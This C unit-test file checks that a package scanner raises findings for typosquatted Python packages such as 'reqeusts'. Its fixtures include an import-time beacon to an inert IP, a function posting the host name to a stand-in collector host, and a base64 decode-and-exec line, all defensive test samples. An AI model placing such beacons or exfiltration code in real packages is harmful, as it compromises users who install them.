/* SPDX-License-Identifier: MIT */
/* Combination C9: findings of a typosquat are raised one level. Hosts are
 * inert (203.0.113.0/24, .invalid). */
#include "rules_tests.h"

/* A package module that beacons a bare IP from a function it calls at
 * import (medium alone). */
static const char beacon[] =
	"import urllib.request\n"
	"def ping():\n"
	"    urllib.request.urlopen('http://203.0.113.7/ping')\n"
	"ping()\n";
/* A function nothing calls that sends the host name out (medium alone:
 * runtime context lowers it). */
static const char runtime_exfil[] =
	"import socket, requests\n"
	"def report():\n"
	"    requests.post('https://collector.invalid/', data=socket.gethostname())\n";

/* Scans the members [path, text, path, text, ..., NULL] as one artifact
 * whose project is name (NULL: not named). */
static void scan_named(struct lg_findings *f, const char *name, ...)
{
	struct lg_rules_scan *s = NULL;
	const char *path;
	va_list ap;

	assert_int_equal(lg_rules_scan_new(&s, f), 0);
	if (name)
		assert_int_equal(lg_rules_scan_set_project(s, name), 0);
	va_start(ap, name);
	while ((path = va_arg(ap, const char *)) != NULL) {
		const char *text = va_arg(ap, const char *);

		assert_int_equal(lg_rules_scan_add(s, path, text, strlen(text)), 0);
	}
	va_end(ap);
	assert_int_equal(lg_rules_scan_finish(s), 0);
	lg_rules_scan_free(s);
}

static void expect(const char *name, const char *path, const char *text,
		   const char *rule, enum lg_severity sev, bool c9)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	scan_named(&f, name, path, text, (const char *)NULL);
	x = t_one(&f, rule);
	if (x->severity != sev)
		fail_msg("%s in %s: %s, want %s (%s)", rule, path,
			 lg_severity_name(x->severity), lg_severity_name(sev),
			 x->message);
	assert_int_equal(strstr(x->message, "combination C9") != NULL, c9);
	lg_findings_dispose(&f);
}

static void test_rules_squat__raises(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	const struct lg_finding *x;

	(void)state;
	scan_named(&f, "reqeusts", "reqeusts/__init__.py", beacon,
		   (const char *)NULL);
	x = t_one(&f, LG_RULE_SUSPICIOUS_DEST);
	assert_int_equal(x->severity, LG_SEV_HIGH);
	assert_non_null(strstr(x->message, "typosquat of 'requests', combination C9"));
	lg_findings_dispose(&f);
	expect("reqeusts", "reqeusts/x.py",
	       "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
	       LG_RULE_DECODE_EXEC, LG_SEV_CRITICAL, true);
	/* A runtime-only payload in a squat blocks too. */
	expect("pandar", "pandar/core.py", runtime_exfil, LG_RULE_NET_EXFIL,
	       LG_SEV_HIGH, true);
}

static void test_rules_squat__near_misses(void **state)
{
	(void)state;
	/* The real project, or a plugin of it: nothing raised. */
	expect("requests", "requests/__init__.py", beacon,
	       LG_RULE_SUSPICIOUS_DEST, LG_SEV_MEDIUM, false);
	expect("requests-oauthlib", "requests_oauthlib/__init__.py", beacon,
	       LG_RULE_SUSPICIOUS_DEST, LG_SEV_MEDIUM, false);
	expect("pandas", "pandas/core.py", runtime_exfil, LG_RULE_NET_EXFIL,
	       LG_SEV_MEDIUM, false);
	/* Tests, docs and examples of a squat are not raised. */
	expect("reqeusts", "reqeusts-1.0/tests/test_net.py",
	       "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
	       LG_RULE_DECODE_EXEC, LG_SEV_LOW, false);
	/* A cmdclass override alone is a normal build shape. */
	expect("reqeusts", "reqeusts-1.0/setup.py",
	       "from setuptools import setup\nsetup(cmdclass={'install': I})\n",
	       LG_RULE_CMDCLASS_OVERRIDE, LG_SEV_MEDIUM, false);
	/* Below medium stays where it is. */
	expect("reqeusts", "reqeusts/util.py",
	       "import requests\n"
	       "def f():\n    requests.get('http://203.0.113.7/x')\n",
	       LG_RULE_SUSPICIOUS_DEST, LG_SEV_LOW, false);
}

/* Without a name from the caller, PKG-INFO's Name is used; a name from the
 * caller wins over it. */
static void test_rules_squat__metadata_name(void **state)
{
	static const char pkg_info[] = "Metadata-Version: 2.1\r\n"
				       "Name:  Reqeusts \r\n"
				       "Version: 1.0\r\n\r\n"
				       "Name: not-a-header\n";
	static const char wheel_meta[] = "Metadata-Version: 2.1\n"
					 "Name: Py_Torch\n\n";
	struct lg_findings f = LG_FINDINGS_INIT;

	(void)state;
	assert_true(lg_rules_wants_member("reqeusts-1.0/PKG-INFO"));
	assert_true(lg_rules_wants_member("x-1.0.dist-info/METADATA"));
	assert_false(lg_rules_wants_member("x-1.0/docs/METADATA"));
	scan_named(&f, NULL, "reqeusts/__init__.py", beacon,
		   "reqeusts-1.0/PKG-INFO", pkg_info, (const char *)NULL);
	assert_int_equal(t_one(&f, LG_RULE_SUSPICIOUS_DEST)->severity,
			 LG_SEV_HIGH);
	lg_findings_dispose(&f);
	scan_named(&f, NULL, "torch/__init__.py", beacon,
		   "py_torch-1.0.dist-info/METADATA", wheel_meta,
		   (const char *)NULL);
	assert_int_equal(t_one(&f, LG_RULE_SUSPICIOUS_DEST)->severity,
			 LG_SEV_HIGH); /* py-torch imitates torch */
	lg_findings_dispose(&f);
	scan_named(&f, "acme-internal", "reqeusts/__init__.py", beacon,
		   "reqeusts-1.0/PKG-INFO", pkg_info, (const char *)NULL);
	assert_int_equal(t_one(&f, LG_RULE_SUSPICIOUS_DEST)->severity,
			 LG_SEV_MEDIUM);
	lg_findings_dispose(&f);
	/* A name that is no project name is no name. */
	scan_named(&f, NULL, "reqeusts/__init__.py", beacon,
		   "reqeusts-1.0/PKG-INFO", "Name: re quests\n",
		   (const char *)NULL);
	assert_int_equal(t_one(&f, LG_RULE_SUSPICIOUS_DEST)->severity,
			 LG_SEV_MEDIUM);
	lg_findings_dispose(&f);
}

static void test_rules_squat__bad_project(void **state)
{
	struct lg_findings f = LG_FINDINGS_INIT;
	struct lg_rules_scan *s = NULL;
	char name[LG_MAX_PROJECT_NAME_BYTES + 2];

	(void)state;
	assert_int_equal(lg_rules_scan_new(&s, &f), 0);
	assert_int_equal(lg_rules_scan_set_project(s, "Not Canonical"),
			 LG_EINVALID);
	memset(name, 'a', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	assert_int_equal(lg_rules_scan_set_project(s, name), LG_ETOOBIG);
	lg_rules_scan_free(s);
}

/* Artifact file names give the project (lg_name_from_artifact). */
static void test_rules_squat__artifact_names(void **state)
{
	static const char *const cases[][2] = {
		{"reqeusts-2.28.1.tar.gz", "reqeusts"},
		{"dist/python_dateutil-2.9.0.post0-py2.py3-none-any.whl",
		 "python-dateutil"},
		{"python-dateutil-2.8.2.tar.gz", "python-dateutil"},
		{"ripe.atlas.dyndns-20.0.4.zip", "ripe-atlas-dyndns"},
		{"Flask_Login-0.6.3.tar.bz2", "flask-login"},
		{"/tmp/x/numpy-2.0.0rc1.tar.xz", "numpy"},
	};
	char *name = NULL;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_equal(lg_name_from_artifact(&name, cases[i][0]), 0);
		assert_string_equal(name, cases[i][1]);
		lg__free(name);
	}
	assert_int_equal(lg_name_from_artifact(&name, "0048abc9.sample"),
			 LG_ENOTFOUND);
	assert_int_equal(lg_name_from_artifact(&name, "noversion.tar.gz"),
			 LG_ENOTFOUND);
	assert_int_equal(lg_name_from_artifact(&name, "-1.0.tar.gz"),
			 LG_ENOTFOUND);
	assert_int_equal(lg_name_from_artifact(&name, "a b-1.0.tar.gz"),
			 LG_EINVALID);
	assert_null(name);
}

int test_rules_squat_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_squat__raises),
		cmocka_unit_test(test_rules_squat__near_misses),
		cmocka_unit_test(test_rules_squat__metadata_name),
		cmocka_unit_test(test_rules_squat__bad_project),
		cmocka_unit_test(test_rules_squat__artifact_names),
	};

	return cmocka_run_group_tests_name("rules.squat", tests, NULL, NULL);
}
